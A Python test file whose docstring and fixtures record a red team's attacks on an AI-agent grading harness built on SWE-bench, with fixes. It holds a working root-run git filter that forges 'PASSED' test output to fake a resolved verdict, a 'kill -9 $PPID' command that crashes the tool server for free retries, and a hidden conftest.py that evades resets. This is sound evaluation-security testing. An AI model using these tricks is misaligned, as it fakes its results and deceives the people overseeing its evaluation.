"""A twelfth red team's attacks (12b): surfaces other than twin values, namely the SWE-bench export's in-box
verifier as the prediction reaches it through SWE-bench's own harness, `run --retry-errors` for an agent that
crashes its own tool server, and the report's selection when runs of one agent ask for different attempts.

Each test asserts the defended behaviour: it FAILS while the attack wins. R12b-1 and R12b-3 run SWE-bench's real
`run_evaluation` on the demo export (`test_export`'s fixtures, the locally built DECODING image; about 20 s each),
R12b-2 one `run_evaluation` of sweserve with the API agent and a scripted model (`fake_model`; about 5 s), R12b-4
`build_reports` on manifests as `write_manifest` writes them (no Docker).

- R12b-1 WIN (`resolved` in SWE-bench's report for a prediction that fixes nothing; root code in the verifier):
  SWE-bench's harness applies a prediction with `git apply`, `--3way`, `--reject`, then `patch --batch --forward
  --fuzz=5 -p1`. git refuses a hunk on `.git/config` (`invalid path`), GNU patch writes it like any other file.
  The prediction adds `[filter "fmt"] clean = python3 /testbed/tools/fmt_clean.py` to `.git/config`, a
  `.gitattributes` (`* filter=fmt`) and the filter script. The eval script's verifier (`sweserve_verify.to_base`)
  then runs `git status` and `git add -A` in that tree as root: `GIT_CONFIG_NOSYSTEM`, `GIT_CONFIG_GLOBAL=/dev/null`
  and the `-c` overrides (hooksPath, fsmonitor, autocrlf, ...) leave the repository's own `.git/config` in force,
  so git runs the candidate's clean filter as root, before the runner's facts are taken and before the plan file
  is read. The filter (once /tmp/sweserve/harness/verify.json exists) reads the graded ids from the verifier's own
  config and writes a complete `>>>>> Start Test Output` / `PASSED <id>` ... / `>>>>> End Test Output` block to
  the verifier's stdout (`/proc/<verifier>/fd/1`, found by walking PPid). SWE-bench's `get_logs_eval` reads the
  first block; the verifier's own (`FAILED ...`, `sweserve: failed`) comes second and is never read. Measured: 3
  of 3 runs `resolved: true` in report.json, the log says `fmt-clean ran as uid 0`. (The filter also runs in the
  harness's own `git diff` before the eval script, as root: the script waits for the verifier's config.) With
  root the same filter could read the plan file, tests.patch and the nonce, or rewrite the harness.
  `test_a_prediction_cannot_run_code_as_root_in_the_swebench_verifier`.
  Fix direction: SWE-bench's harness itself runs `git diff` in that tree as root before the eval script (its
  "Git diff before": the filter runs there too), so hardening the verifier alone is not enough. Keep the
  repository's git dir out of the work tree in the exported image (`/testbed/.git` a gitfile naming a root-owned
  dir, as `git init --separate-git-dir` makes): `patch` then finds no `.git/config` to write (ENOTDIR; its `..`
  and absolute-name checks keep it from the real dir) and the prediction is APPLY_PATCH_FAIL (checked with GNU
  patch 2.7.6 here). In the verifier, refuse a harness-applied tree whose `.git` differs from the image's, and run
  its git with the repository config neutralised (`GIT_CONFIG_COUNT` cannot unset a filter another file defines:
  read the tree without git, or with a private `GIT_DIR` that borrows the objects through an alternate, as
  `sweserve run` already does).
- R12b-2 WIN (free resample with `run --retry-errors`; the lead red team 11 left): the API agent's model sends
  `kill -9 $PPID` as its first bash command: that is the swe-rex server its commands run under, in its own
  sandbox, where the candidate is root. The agent's next request fails (`ServerDisconnectedError`), `api.py` sets
  `run.error`, and `trial._graded` returns `error` of kind `agent` without grading the tree; `evaluate.pending
  (retry_errors=True)` hands that (task, attempt) out again (only kind `limit` is kept, `OWN_ERRORS`). A model
  that kills its tool server whenever it doubts its fix is scored only on the attempts it trusts: a per-attempt
  solve rate q becomes 1 - (1 - q)^retries, and reports count only the last record (`latest`). Measured: status
  `error`, kind `agent`, reason `agent: tool server: ServerDisconnectedError: Server disconnected`, redone.
  `test_an_agent_that_kills_its_own_tool_server_gets_no_fresh_attempt`.
  Fix direction: a tool server that dies while the sandbox is up is the candidate's doing as far as the harness can
  tell: end the run there (`exit_reason` such as `tool_server_died`) and grade the tree as a time limit is graded,
  or record it as an error `--retry-errors` does not redo (`OWN_ERRORS`); keep `agent` retries for the model API's
  own failures (HTTP errors, time-outs), which the sandbox cannot cause.
- R12b-3 WIN (a stated defence bypassed: "any conftest.py" reset; nothing in the verdict names it): the
  prediction adds `test/srt/.gitignore` (`*`), `test/srt/conftest.py` and any visible file (`NOTES.md`). SWE-bench's
  harness applies it with plain `git apply`. `to_base` sees the tree changed, `git add -A` skips what the new
  `.gitignore` ignores, so the re-made submission, and the `leftovers` it removes, never name conftest.py;
  `git reset --hard` + `git clean -qfd` (no `-x`) leave ignored files, so the conftest stays in the graded tree
  and `submit`/`reset` never see it. Measured: the candidate's `pytest_runtest_setup` runs in every test of the
  graded run (its RuntimeError in the test output), `sweserve.json` details `{"resets": [], "tampered": []}`.
  Any file survives this way unseen (a `pytest.ini` beside the hidden tests, a module under a new `pythonpath`); as
  the tests still run as the unprivileged user they give the code no power in-process code lacks, so no verdict
  flip is claimed, only the reset and the reviewer's view bypassed. `sweserve run` is not affected (its copy
  leaves ignored files out, and it diffs in a fresh box).
  `test_a_predictions_ignored_conftest_never_runs_in_the_swebench_verifier`.
  Fix direction: `leftovers` from the harness-applied tree itself, ignored files included (`git status
  --porcelain -z --ignored=matching` / `git ls-files -o -z` without excludes, or `git clean -ffdx` after reading
  what is there), or clean with `-x` after saving the base tree's own ignored files (the image's build outputs).
- R12b-4 WIN (the report's numbers wrong; no candidate needed): `read_manifests` merges every run of an agent on
  one results file into one `Selection` whose `attempts` is the largest any run asked for, applied to every task
  any run selected. Run 1 selects A and B once; run 2 (`sweserve run A --attempts 3`, same `--output`: pending
  runs A's attempts 2 and 3, its manifest lists A alone with attempts 3). `build_reports` then expects 3 attempts
  of B, shows it `resolved (1/3), 2 missing` and counts a third of a pass: measured pass@1 0.50 (A 2/3, B 1/3)
  where the runs' own selections give 0.83 (A 2/3, B 1/1); the "2 missing" are attempts no resume of either
  command runs. After a few tasks are rerun with `--attempts k`, every task run once loses (k-1)/k of its pass
  rate.
  `test_more_attempts_for_one_task_leave_the_other_tasks_selection_alone`.
  Fix direction: keep attempts per task in `Selection` (`{task: attempts}`, each the largest attempts of a run that
  selected that task), not one number per agent.

Fixed since (each test here failed before its fix):
- R12b-1: the export's image (images/checked-out) keeps the git dir at /var/lib/sweserve-testbed.git, named by
  GIT_DIR/GIT_WORK_TREE in the image's environment: `patch` reaches nothing git reads, so the prediction is
  APPLY_PATCH_FAIL; a second case, a `.git` file naming a git dir of the prediction's own making (text files:
  HEAD, config, an alternate to the real objects), is never read either (checked by hand: without GIT_DIR, git
  ran that git dir's filter). The verifier puts a `.git` file naming the real git dir back for the tests.
- R12b-2: the API agent's run ends `tool_server_lost` and its tree is graded (tests/test_attacks_retries.py).
- R12b-3: the verifier removes every untracked file but the image's install outputs (the paths its
  .git/info/exclude lists), whatever a .gitignore says, once the tree is back at base (`sweserve_verify.untracked`);
  what a .gitignore hides is no part of the submission, as in `sweserve run`'s diff.
- R12b-4: `Selection.per_task`: each task as many attempts as the runs that selected it asked.
- The first lead: `to_base` removes nothing whose folder, links resolved, is outside the work tree
  (`sweserve_verify.inside`; `test_the_verifier_removes_nothing_outside_the_work_tree`).

Leads, not reproduced:
- (closed, see above) `to_base` where the tree is at base and `/tmp/patch.diff` is given (a harness that applied nothing visible):
  `leftovers` comes from `git apply --numstat` of the raw prediction, which checks no path (`--numstat` alone
  applies nothing, so git's `..`/absolute checks never run: `../../tmp/victim` is listed as is), and each such path
  that exists and is not tracked is `os.unlink`ed as root: an arbitrary root unlink outside /testbed. SWE-bench's
  harness leaves the tree changed in every case I built (a prediction it cannot apply is APPLY_PATCH_FAIL before
  the eval script; a self-ignoring `.gitignore` (`*`) does empty `git status`, but GNU patch exits 1 when it
  skips a `..` name, so the harness refuses the prediction), so not shown as a verdict.
- Harbor: the agent container and the separate verifier container may share the trial's `/logs` mount; a root
  daemon the agent leaves running could rewrite `/logs/verifier/reward.txt` after the verifier writes it, if Harbor
  does not stop the agent's environment first. Harbor is not installed in this checkout, so not tried.
- The SWE-bench harness itself runs `git diff` in the prediction's tree as root before the eval script (its
  "Git diff before"): the same filter runs there. Outside sweserve's code, but a fix that only hardens the
  verifier leaves the box rooted before the verifier starts (it then reads its harness from /tmp/sweserve, which
  the eval script writes after that `git diff`: a root daemon left by the filter can rewrite it).

Looked at, no finding (red team 12b): non-UTF-8 path names and the host's reset lists (`_unb64` decodes with
`replace`, so a reset of such a path deletes nothing, but every reset that matters is by an exact ASCII name:
conftest.py, pytest.ini, sitecustomize.py, a module name; an effective file cannot hold the bad byte); a
sitecustomize.py kept by R12b-3 (the demo image puts no repository path on `python -I`'s start-up path, so no
root process imports it); pytest configuration parsed by configparser against pytest's iniconfig (no
difference that gives the tests more than in-process code); lone surrogates reaching `RunResult.model_dump_json`
(every box output is decoded with `replace`); two models of a predictions file mapped to one agent name
(refused); results JSONL torn lines and `U+2028` in candidate strings (split on `\n` only); the boot's emitter,
nonce and `end` check (reachable in-process as the README says; twins are the defence); other `error`s a
candidate could cause for `--retry-errors` (a listing or diff too long for the exec's 8 MB tail is
`LimitExceeded`, kept; `git add` refusing the tree is `patch_failed`); `report --regrade` (the saved outcomes are
the plan's reading, twin and canary failures already written into them).
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from test_export import DECODING, decoding_image, swebench_export  # noqa: F401 - fixtures


@pytest.fixture(scope="module")
def exported_image(docker_client, decoding_image):  # noqa: F811
    """The image the export's rows name (the checked-out variant), built as `export --build-images` builds it."""
    from sweserve.environment.images import ImageBuilder, read_ca_bundle

    return ImageBuilder(docker_client, read_ca_bundle(None)).checked_out(decoding_image[1])


def _swebench_log(tmp_path: Path, export: Path, model: str, patch: str) -> tuple[bool, str]:
    preds = tmp_path / f"{model}.jsonl"
    preds.write_text(json.dumps({"instance_id": DECODING, "model_name_or_path": model, "model_patch": patch}) + "\n")
    proc = subprocess.run(
        [sys.executable, "-m", "swebench.harness.run_evaluation", "-d", str(export / "test.jsonl"),
         "-p", str(preds), "-id", model, "-i", DECODING, "--max_workers", "1", "--report_dir", str(tmp_path)],
        cwd=tmp_path, capture_output=True, text=True, timeout=600)
    logs = tmp_path / "logs" / "run_evaluation" / model / model / DECODING
    if not (logs / "report.json").exists():  # a prediction the harness could not apply: never graded
        text = (logs / "run_instance.log").read_text() if (logs / "run_instance.log").exists() else ""
        assert "Patch Apply Failed" in text, proc.stdout[-2000:] + proc.stderr[-2000:]
        return False, ""
    return (json.loads((logs / "report.json").read_text())[DECODING]["resolved"],
            (logs / "test_output.txt").read_text())


# --- R12b-1: a SWE-bench prediction that writes .git/config through `patch --fuzz`, run as root by the verifier ----

FILTER_SCRIPT = '''import json, os, sys
done, config = "/tmp/.fmt-clean-ran", "/tmp/sweserve/harness/verify.json"
if os.path.exists(config) and not os.path.exists(done):  # the verifier's, not the harness's own `git diff`
    open(done, "w").close()
    cfg = json.load(open(config))
    pid = os.getppid()
    while pid > 1:
        if b"sweserve_verify.py" in open("/proc/%d/cmdline" % pid, "rb").read():
            break
        pid = int(open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()[1])
    mark = ">" * 5
    lines = [mark + " Start Test Output"]
    lines += ["PASSED " + t for t in cfg["FAIL_TO_PASS"] + cfg["PASS_TO_PASS"]]
    lines += [mark + " Test Exit Code: 0", mark + " End Test Output", "fmt-clean ran as uid %d" % os.getuid()]
    with open("/proc/%d/fd/1" % pid, "w") as out:
        out.write("\\n".join(lines) + "\\n")
sys.stdout.buffer.write(sys.stdin.buffer.read())
'''


def _new_file(path: str, text: str) -> str:
    body = text.splitlines()
    return (f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
            f"@@ -0,0 +1,{len(body)} @@\n" + "".join(f"+{line}\n" for line in body))


# git apply refuses the .git/config hunk ("invalid path"), so SWE-bench's harness falls back to
# `patch --batch --forward --fuzz=5 -p1`, which writes .git/config like any other file
GIT_CONFIG_HUNK = ("diff --git a/.git/config b/.git/config\n--- a/.git/config\n+++ b/.git/config\n"
                   "@@ -1 +1,3 @@\n+[filter \"fmt\"]\n+\tclean = python3 /testbed/tools/fmt_clean.py\n [core]\n")
ROOT_FILTER_PREDICTION = (_new_file(".gitattributes", "* filter=fmt\n")
                          + _new_file("tools/fmt_clean.py", FILTER_SCRIPT) + GIT_CONFIG_HUNK)


# the defence's second half: with the git dir out of the work tree, `patch` can still make a `.git` file naming
# a git dir of its own (text files only: HEAD at the base commit, the real objects through an alternate, the
# filter in its config); git must never read it (GIT_DIR in the image's environment wins over any `.git`)
def _own_git_dir(base: str) -> str:
    config = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[filter \"fmt\"]\n\tclean = python3 /testbed/tools/fmt_clean.py\n"
    return (_new_file(".git", "gitdir: /testbed/tools/g\n") + _new_file("tools/g/HEAD", base + "\n")
            + _new_file("tools/g/config", config) + _new_file("tools/g/refs/heads/x", base + "\n")
            + _new_file("tools/g/objects/info/alternates", "/var/lib/sweserve-testbed.git/objects\n"))


@pytest.mark.docker
@pytest.mark.slow
@pytest.mark.parametrize("how", ["config-hunk", "own-git-dir"])
def test_a_prediction_cannot_run_code_as_root_in_the_swebench_verifier(exported_image, swebench_export,  # noqa: F811
                                                                      tmp_path, how):
    """SWE-bench's real run_evaluation on the export, one prediction that fixes nothing: it only adds a clean
    filter git would run as root (the harness's `git diff`, the verifier's `git add -A`): to .git/config through
    `patch` (failed before the git dir left the work tree), or in a git dir of its own that a `.git` file names."""
    (row,) = [json.loads(line) for line in (swebench_export / "test.jsonl").read_text().splitlines()
              if json.loads(line)["instance_id"] == DECODING]
    assert row["image"] == exported_image
    prediction = (ROOT_FILTER_PREDICTION if how == "config-hunk" else
                  _new_file(".gitattributes", "* filter=fmt\n") + _new_file("tools/fmt_clean.py", FILTER_SCRIPT)
                  + _own_git_dir(row["base_commit"]))
    resolved, text = _swebench_log(tmp_path, swebench_export, "fmt-clean", prediction)
    assert not resolved and "fmt-clean ran as uid" not in text, text[text.find(">" * 5 + " Start"):][:3000]


# --- R12b-2: an API agent that kills its own tool server is an `error` that `run --retry-errors` redoes ----------

@pytest.mark.docker
def test_an_agent_that_kills_its_own_tool_server_gets_no_fresh_attempt(decoding_image, tmp_path):  # noqa: F811
    """The model's first command kills the swe-rex server its commands run under (`kill -9 $PPID`, root in its
    own sandbox): the trial is `error` (kind `agent`), never graded, and `pending(retry_errors=True)` hands the
    (task, attempt) out again: a candidate that doubts its fix crashes and is scored only on the draws it keeps."""
    from fake_model import FakeModel, tool_call
    from test_agents_docker import api_cfg
    from test_export import TASKS

    from sweserve.agents.api import ApiAgent
    from sweserve.dataset.taskstore import load_all
    from sweserve.evaluation.context import Context
    from sweserve.evaluation.evaluate import pending, run_evaluation
    from sweserve.evaluation.results import read_results

    repo, _ = decoding_image
    (bundle,) = [b for b in load_all(TASKS) if b.task.task_id == DECODING]
    script = [tool_call("bash", {"command": "kill -9 $PPID"}), tool_call("submit", {})]
    out = tmp_path / "results.jsonl"
    ctx = Context.create(tmp_path / "state", repo_path=repo)
    try:
        with FakeModel(script) as fake:
            agent = ApiAgent(api_cfg(fake), env={})
            run_evaluation(ctx, [bundle], agent, out)
    finally:
        ctx.close()
    (r,) = read_results(out)
    redone = pending([bundle], agent, 1, out, retry_errors=True)
    assert not redone, (r.status, r.error_kind, r.reason)


# --- R12b-3: files a prediction puts where its own .gitignore ignores them survive the export verifier's resets ---

CONFTEST = 'def pytest_runtest_setup(item):\n    raise RuntimeError("RT12B candidate conftest ran")\n'
# git apply writes every file of the prediction; the verifier's `git add -A` skips what the new .gitignore ignores,
# so its diff (and its resets) never see conftest.py, and `git clean -qfd` (no -x) leaves it in the graded tree
IGNORED_CONFTEST_PREDICTION = (_new_file("test/srt/.gitignore", "*\n") + _new_file("test/srt/conftest.py", CONFTEST)
                               + _new_file("NOTES.md", "notes\n"))


@pytest.mark.docker
@pytest.mark.slow
def test_a_predictions_ignored_conftest_never_runs_in_the_swebench_verifier(docker_client, decoding_image,  # noqa: F811
                                                                           swebench_export, tmp_path):  # noqa: F811
    """SWE-bench's real run_evaluation: the prediction applies with plain `git apply`; the verifier's diff, its
    resets (`any conftest.py`) and its `sweserve.json` details never name test/srt/conftest.py, which runs."""
    _, text = _swebench_log(tmp_path, swebench_export, "ignored-conftest", IGNORED_CONFTEST_PREDICTION)
    assert "RT12B candidate conftest ran" not in text, text[text.find("sweserve: "):][:3000]


# --- R12b-4: a later run's --attempts applied to every task an earlier run of the agent selected ----------------

def test_more_attempts_for_one_task_leave_the_other_tasks_selection_alone(tmp_path):
    """Run 1 selects A and B once; run 2 (same agent, same results file) selects A alone, `--attempts 3`. B was
    asked for once and has its one result: it is neither `missing` attempts nor down to a third of a pass."""
    from test_report_properties import manifest, record

    from sweserve.reporting.summary import build_reports, read_manifests

    manifest(tmp_path, "r1", "a", {"A": "decoding", "B": "decoding"}, attempts=1, results="results.jsonl")
    manifest(tmp_path, "r2", "a", {"A": "decoding"}, attempts=3, results="results.jsonl")
    results = [record("A", "resolved", run_id="r1"), record("B", "resolved", run_id="r1"),
               record("A", "resolved", attempt=2, run_id="r2"), record("A", "failed", attempt=3, run_id="r2")]
    (rep,) = build_reports(results, read_manifests(tmp_path / "runs", "results.jsonl", {"a"}))
    row = {r.task_id: r for r in rep.tasks}["B"]
    assert (row.attempts, row.missing_attempts) == (1, 0), row
    assert rep.overall.pass_at_1 == pytest.approx((2 / 3 + 1) / 2), rep.overall


# --- the lead on removing what a patch names: `git apply --numstat` lists `../x` and names through links as is ---

def test_the_verifier_removes_nothing_outside_the_work_tree(tmp_path, monkeypatch):
    """`to_base` unlinks, as root, the paths a patch names that base does not track; a name that leaves the work
    tree (`../victim`) or passes through a link out of it (`out/victim`, `out` -> a folder outside) is skipped."""
    from tests.test_attacks_redteam11 import _verify_module

    verify = _verify_module()
    tree, outside = tmp_path / "testbed", tmp_path / "elsewhere"
    tree.mkdir()
    outside.mkdir()
    (tree / "pkg").mkdir()
    (tree / "out").symlink_to(outside)
    monkeypatch.setattr(verify, "WORKDIR", str(tree))
    assert verify.inside(str(tree / "pkg" / "new.py")) and verify.inside(str(tree / "new.py"))
    assert not verify.inside(str(tree / ".." / "victim"))
    assert not verify.inside(str(tree / "out" / "victim"))
